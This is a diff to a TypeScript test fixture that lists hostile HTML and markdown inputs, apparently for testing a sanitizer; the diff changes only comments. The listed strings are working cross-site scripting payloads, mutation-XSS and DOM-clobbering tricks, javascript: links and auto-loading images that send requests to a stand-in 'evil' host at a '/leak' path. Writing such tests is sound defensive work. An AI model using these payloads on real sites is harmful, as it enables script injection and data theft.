@@ -1,13 +1,12 @@
 /**
- * What a hostile text might try: to run something (it would set `canary`), to send something to
- * `evil`, to cover, rename or restyle the page, or to lead away by a link that does not look like
- * one.
+ * Hostile texts. They try to run code (which sets `canary`), to send a request to `evil`, to cover,
+ * rename or restyle the page, or to lead away by a disguised link.
  */
 export function payloads(evil: string): string[] {
   const run = "globalThis.canary=(globalThis.canary??0)+1";
   const send = `${evil}/leak?c=`;
   return [
-    // Scripts, plain and hidden.
+    // Scripts, plain and obfuscated.
     `<script>${run}</script>`,
     `<ScRiPt src="${send}1"></sCrIpT>`,
     `<script type="module">${run}</script>`,
@@ -20,7 +19,7 @@ export function payloads(evil: string): string[] {
     `<![CDATA[><script>${run}</script>]]>`,
     `<xmp><script>${run}</script></xmp>`,
     `<plaintext><script>${run}</script>`,
-    // Handlers.
+    // Event handlers.
     `<img src=x onerror="${run}">`,
     `<img src=x onerror=${run}//`,
     `<IMG """><SCRIPT>${run}</SCRIPT>">`,
@@ -36,7 +35,7 @@ export function payloads(evil: string): string[] {
     `<a href="https://example.com" onfocus="${run}" autofocus tabindex=1>focus me</a>`,
     `<p style="animation:pulse 1s" onanimationstart="${run}">x</p>`,
     `<button onclick="${run}" autofocus popovertarget=app>press</button>`,
-    // Scripts as links.
+    // Scripts in links.
     `[one](javascript:${run})`,
     `[two](JaVaScRiPt:${run})`,
     `[three](java&#10;script:${run})`,
@@ -52,7 +51,7 @@ export function payloads(evil: string): string[] {
     `<a href="data:text/html,<script>${run}</script>" target="_self">twelve</a>`,
     `[thirteen](#token=stolen) <a href="/#token=stolen">fourteen</a> <a href="//${new URL(evil).host}/">fifteen</a>`,
     `<a href="https://example.com" ping="${send}ping" download>sixteen</a>`,
-    // What loads by itself.
+    // Elements that load a URL without a click.
     `![pixel](${send}image)`,
     `![pixel][img]\n\n[img]: ${send}reference "title"`,
     `<img src="${send}img"><img srcset="${send}srcset 1x"><picture><source srcset="${send}picture"><img></picture>`,
@@ -73,25 +72,25 @@ export function payloads(evil: string): string[] {
     `<div style="background:url(${send}inline);position:fixed;inset:0;z-index:99">covers all</div>`,
     `<p class="app" id="message" name="app">takes the name of a part of the page</p>`,
     `<div style="width:expression(${run});behavior:url(${send}htc)">old</div>`,
-    // Drawings and formulas.
+    // SVG and MathML.
     `<svg onload="${run}"><script>${run}</script></svg>`,
     `<svg><image href="${send}svg"/><use href="${send}use#x"/><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
     `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
     `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
     `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">x</maction></math>`,
-    // Markup that becomes other markup when it is parsed a second time.
+    // Markup that changes its meaning when it is parsed a second time.
     `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
     `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
     `<svg><style><img src=x onerror=${run}></style></svg>`,
     `<p id="</p><img src=x onerror=${run}>">`,
     `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
     `<a title="</a><img src=x onerror=${run}>">x</a>`,
-    // Names that scripts look things up by.
+    // Names that shadow DOM properties.
     `<img name="querySelector"><form name="body"><input name="attributes"><input id="parentNode"></form>`,
     `<a id="app"></a><a id="defaultView" href="javascript:1"></a><form id="document"><output name="cookie"></form>`,
     `<is-custom onclick="${run}" is="x"></is-custom><div is="x-y" slot="z" part="q">custom</div>`,
-    // Out of code.
+    // Breaking out of a code block.
     `\`\`\`"><img src=x onerror=${run}>\n</code></pre><script>${run}</script>\n\`\`\``,
     `\`</code><img src=x onerror=${run}>\``,
     `- item\n\n      </code></pre><img src=x onerror=${run}>`,
